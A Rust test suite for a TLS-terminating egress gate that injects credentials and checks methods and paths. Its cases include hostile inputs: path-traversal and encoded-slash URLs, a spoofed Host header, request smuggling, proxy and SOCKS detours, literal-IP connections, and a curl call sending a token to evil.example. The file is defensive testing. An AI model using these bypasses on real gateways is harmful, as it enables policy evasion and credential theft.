//! TLS termination with common programs: they trust the gate's certificate, their requests are checked by method and path,
//! and the gate adds a credential that they never hold.

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use libtest_mimic::{Failed, Trial};
use vambrace_egress::{Credential, GateConfig, TerminatedHosts, TlsTermination, TrustedRoots};
use vambrace_redact::SecretBytes;

use super::harness::{ProbeRun, harness, line, setting};
use super::programs::is_here;
use super::test_network;

const VALUE: &str = "real-credential-0123456789abcdef";
const PLACEHOLDER: &str = "vambrace-placeholder-00112233";

pub(crate) fn trials() -> Vec<Trial> {
    let mut trials = vec![
        Trial::test(
            "tls_termination::plain_http_to_a_terminated_host_is_denied",
            plain_http_to_a_terminated_host_is_denied,
        ),
        Trial::test(
            "tls_termination::literal_address_of_a_terminated_host_is_denied",
            literal_address_of_a_terminated_host_is_denied,
        ),
    ];
    for program in ["curl", "python3", "node", "git"] {
        trials.push(
            Trial::test(
                format!("tls_termination::{program}_uses_a_credential_that_it_never_holds"),
                move || program_uses_a_credential_that_it_never_holds(program),
            )
            .with_ignored_flag(!is_here(program)),
        );
    }
    trials.extend([
        Trial::test("tls_termination::methods_and_paths_are_checked", methods_and_paths_are_checked)
            .with_ignored_flag(!is_here("curl")),
        Trial::test(
            "tls_termination::placeholder_for_another_host_is_not_replaced_and_is_reported",
            placeholder_for_another_host_is_not_replaced_and_is_reported,
        )
        .with_ignored_flag(!is_here("curl")),
        Trial::test(
            "tls_termination::server_with_an_untrusted_certificate_is_rejected",
            server_with_an_untrusted_certificate_is_rejected,
        )
        .with_ignored_flag(!is_here("curl")),
    ]);
    trials
}

/// The certificate of the test internet.
fn roots() -> Arc<TrustedRoots> {
    let der = std::fs::read(test_network::dir().join("certificate")).unwrap();
    let packed = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, der);
    let pem = format!("-----BEGIN CERTIFICATE-----\n{packed}\n-----END CERTIFICATE-----\n");
    Arc::new(TrustedRoots::with_pem(pem.as_bytes()).unwrap())
}

struct TerminatedRun {
    setting: GateConfig,
    bundle: PathBuf,
}

fn way(rules: &[&str], methods: &[&str], paths: &[&str], trust: Arc<TrustedRoots>) -> TerminatedRun {
    let owned = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>();
    let value = SecretBytes::from(VALUE);
    let credential = Credential::new("authorization", PLACEHOLDER.to_owned(), &value).unwrap();
    let entry =
        TerminatedHosts::new(&owned(&["good.example"]), owned(methods), owned(paths), Some(credential))
            .unwrap();
    let termination = TlsTermination::new(vec![entry], trust, &[], &[1; 32]).unwrap();
    static COUNT: AtomicUsize = AtomicUsize::new(0);
    let bundle = test_network::dir().join(format!("bundle-{}.pem", COUNT.fetch_add(1, Ordering::Relaxed)));
    std::fs::write(&bundle, termination.certificate_bundle()).unwrap();
    TerminatedRun {
        setting: GateConfig { termination: Some(Arc::new(termination)), ..setting(rules) },
        bundle,
    }
}

fn shell(way: TerminatedRun, script: &str) -> ProbeRun {
    let TerminatedRun { setting, bundle } = way;
    harness().run_with(setting, "/bin/sh", &["-c", script], |spec| {
        spec.read.push(bundle.clone());
        for name in
            ["SSL_CERT_FILE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "REQUESTS_CA_BUNDLE", "GIT_SSL_CAINFO"]
        {
            spec.environment.push((name.into(), bundle.clone().into()));
        }
        spec.environment.push(("TOKEN".into(), PLACEHOLDER.into()));
    })
}

fn authorizations() -> String {
    std::fs::read_to_string(test_network::dir().join("authorizations")).unwrap_or_default()
}

fn expect(ran: &ProbeRun, said: &str, event: &str) -> Result<(), Failed> {
    let found = ran.events.iter().any(|one| line(one) == event);
    let leaked =
        ran.out.contains(VALUE) || String::from_utf8_lossy(&ran.outcome.stderr.bytes).contains(VALUE);
    if ran.out.contains(said) && found && !leaked {
        Ok(())
    } else {
        Err(format!("`{said}` `{event}`: {}", ran.report()).into())
    }
}

// P5
fn program_uses_a_credential_that_it_never_holds(program: &str) -> Result<(), Failed> {
    let url = format!("https://good.example/echo/{program}");
    let script = match program {
        "curl" => format!("curl -sS -H \"Authorization: Bearer $TOKEN\" {url} 2>&1; env"),
        "python3" => format!(
            "/usr/bin/python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"TOKEN\"]}})).read())' 2>&1"
        ),
        "node" => format!(
            "node -e 'fetch(\"{url}\", {{headers: {{Authorization: `Bearer ${{process.env.TOKEN}}`}}}}).then(r => r.text()).then(console.log, e => console.log(String(e), e.cause))' 2>&1"
        ),
        _ => format!("git -c http.extraHeader=\"Authorization: Bearer $TOKEN\" ls-remote {url} 2>&1"),
    };
    let ran = shell(way(&["good.example"], &[], &[], roots()), &script);
    let said = if program == "git" { "" } else { "you are Bearer [REDACTED" };
    expect(&ran, said, "credential good.example 443 allowed")?;
    if !authorizations()
        .lines()
        .any(|line| line.contains(&format!("/echo/{program}")) && line.ends_with(&format!("Bearer {VALUE}")))
    {
        return Err(format!("the server did not get the credential: {}", authorizations()).into());
    }
    Ok(())
}

/// Name, curl's arguments, the event with the verdict.
const CASES: &[(&str, &str, &str)] = &[
    ("an allowed path", "https://good.example/v1/x", "connect good.example 443 allowed"),
    ("another path", "https://good.example/v2/x", "connect good.example 443 denied request_not_allowed"),
    (
        "another method",
        "-X DELETE https://good.example/v1/x",
        "connect good.example 443 denied request_not_allowed",
    ),
    ("a body", "-d x https://good.example/v1/x", "connect good.example 443 denied request_not_allowed"),
    ("dot segments", "https://good.example/v1/../v2/x", "connect good.example 443 denied not_understood"),
    (
        "escaped dot segments",
        "https://good.example/v1/%2e%2e/v2",
        "connect good.example 443 denied not_understood",
    ),
    ("an escaped slash", "https://good.example/v1/..%2fv2", "connect good.example 443 denied not_understood"),
    ("two slashes", "https://good.example//v1/x", "connect good.example 443 denied not_understood"),
    (
        "another Host inside TLS",
        "-H 'Host: evil.example' https://good.example/v1/x",
        "connect good.example 443 denied name_mismatch",
    ),
    (
        "two lengths inside TLS",
        "-H 'Transfer-Encoding: chunked' -H 'Content-Length: 3' -X GET -d abc https://good.example/v1/x",
        "connect good.example 443 denied not_understood",
    ),
    ("an HTTP/1.0 request", "--http1.0 https://good.example/v1/x", "connect good.example 443 allowed"),
    (
        "an HTTP/1.0 request for another path",
        "--http1.0 https://good.example/v2/x",
        "connect good.example 443 denied request_not_allowed",
    ),
    (
        "another path with a WebSocket upgrade",
        "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' https://good.example/v2/x",
        "connect good.example 443 denied request_not_allowed",
    ),
    (
        "through the HTTP proxy",
        "-x http://127.0.0.1:3128 https://good.example/v2/x",
        "http_proxy good.example 443 denied request_not_allowed",
    ),
    (
        "through SOCKS",
        "-x socks5h://127.0.0.1:3128 https://good.example/v2/x",
        "socks good.example 443 denied request_not_allowed",
    ),
    (
        "through SOCKS, by the synthetic address",
        "-x socks5://127.0.0.1:3128 https://good.example/v2/x",
        "socks good.example 443 denied request_not_allowed",
    ),
    ("without TLS", "http://good.example/v1/x", "connect good.example 80 denied not_understood"),
    (
        "without TLS, another port",
        "http://good.example:8080/v2/x",
        "connect good.example 8080 denied not_understood",
    ),
];

fn ask(words: &str) -> ProbeRun {
    let way = way(&["good.example:*"], &["GET"], &["/v1/*"], roots());
    shell(way, &format!("curl -sS -m 10 --path-as-is {words} 2>&1"))
}

fn check(words: &str, event: &str) -> Result<(), Failed> {
    let ran = ask(words);
    let passes = event.ends_with(" allowed");
    let said = match passes {
        true => "served good.example",
        false if words.contains("http://good") => "",
        false => "denied by the network policy",
    };
    expect(&ran, said, event)?;
    if ran.out.contains("served") == passes { Ok(()) } else { Err(ran.report().into()) }
}

/// Every case with its result, for the table.
pub(crate) fn table() -> impl Iterator<Item = (&'static str, &'static str, bool)> {
    let verdict = |event: &'static str| event.split(" denied ").nth(1).unwrap_or("allowed");
    let here = is_here("curl");
    CASES
        .iter()
        .filter(move |_| here)
        .map(move |(name, words, event)| (*name, verdict(event), check(words, event).is_ok()))
}

// P3
fn methods_and_paths_are_checked() -> Result<(), Failed> {
    for (name, words, event) in CASES {
        check(words, event)
            .map_err(|error| Failed::from(format!("{name}: {}", error.message().unwrap_or_default())))?;
    }
    // HTTP/2 is not offered.
    let ran = ask("--http2 -w '%{http_version}' https://good.example/v1/x");
    expect(&ran, "1.1", "connect good.example 443 allowed")
}

// P5
fn placeholder_for_another_host_is_not_replaced_and_is_reported() -> Result<(), Failed> {
    let script = "curl -sS -H \"Authorization: Bearer $TOKEN\" http://evil.example/echo/stray 2>&1; curl -sS -u \"user:$TOKEN\" http://evil.example/echo/packed 2>&1";
    let ran = shell(way(&["good.example", "evil.example"], &[], &[], roots()), script);
    expect(&ran, &format!("you are Bearer {PLACEHOLDER}"), "placeholder evil.example 80 allowed")?;
    let placeholder = ran.events.iter().find(|event| event.action.as_str() == "placeholder");
    let twice = placeholder.is_some_and(|event| event.times == 2);
    let kept =
        authorizations().lines().any(|line| line == format!("evil.example /echo/stray Bearer {PLACEHOLDER}"));
    if twice && kept { Ok(()) } else { Err(format!("{}: {}", authorizations(), ran.report()).into()) }
}

// P5
fn server_with_an_untrusted_certificate_is_rejected() -> Result<(), Failed> {
    let ran = shell(
        way(&["good.example"], &[], &[], Arc::default()),
        "curl -sS -m 10 -H \"Authorization: Bearer $TOKEN\" https://good.example/echo/stranger 2>&1",
    );
    let failed =
        ran.events.iter().any(|event| line(event).starts_with("connect good.example 443 failed unreachable"));
    if failed && !ran.out.contains("you are") && !authorizations().contains("/echo/stranger") {
        Ok(())
    } else {
        Err(ran.report().into())
    }
}

// P3
fn plain_http_to_a_terminated_host_is_denied() -> Result<(), Failed> {
    let words = ["probe", "tcp", "good.example", "443", "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"];
    let way = way(&["good.example"], &[], &[], roots());
    let ran = harness().run(way.setting, std::env::current_exe().unwrap().to_str().unwrap(), &words);
    let reported =
        ran.events.iter().any(|event| line(event) == "connect good.example 443 denied not_understood");
    if reported && !ran.out.contains("served") { Ok(()) } else { Err(ran.report().into()) }
}

// P3
fn literal_address_of_a_terminated_host_is_denied() -> Result<(), Failed> {
    let request = "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n";
    let connect = "CONNECT 93.184.216.34:80 HTTP/1.1\\r\\nHost: 93.184.216.34\\r\\n\\r\\n";
    let (there, beside) = (["tcp", "93.184.216.34", "80", request], ["tcp", "93.184.216.35", "80", request]);
    let refused = "connect 93.184.216.34 80 denied address_not_allowed";
    // A rule that lets the name resolve to the address does not let the program connect to the address directly.
    for (rules, words, said, event) in [
        (&["allow"][..], &there[..], "ERROR", refused),
        (&["allow", "93.184.216.34"], &there, "ERROR", refused),
        (&["good.example", "93.184.216.32/29"], &there, "ERROR", refused),
        (
            &["93.184.216.34"],
            &["proxy", connect],
            "403 Forbidden",
            "http_proxy 93.184.216.34 80 denied address_not_allowed",
        ),
        (
            &["93.184.216.34"],
            &["socks", "93.184.216.34", "80", request],
            "socks says 2",
            "socks 93.184.216.34 80 denied address_not_allowed",
        ),
        (&["93.184.216.32/29"], &beside, "served good.example", "connect 93.184.216.35 80 allowed"),
    ] {
        let way = way(rules, &[], &[], roots());
        let words: Vec<&str> = ["probe"].iter().chain(words).copied().collect();
        let ran = harness().run(way.setting, std::env::current_exe().unwrap().to_str().unwrap(), &words);
        expect(&ran, said, event)?;
        if event.contains("denied") && !ran.reached.is_empty() {
            return Err(ran.report().into());
        }
    }
    Ok(())
}
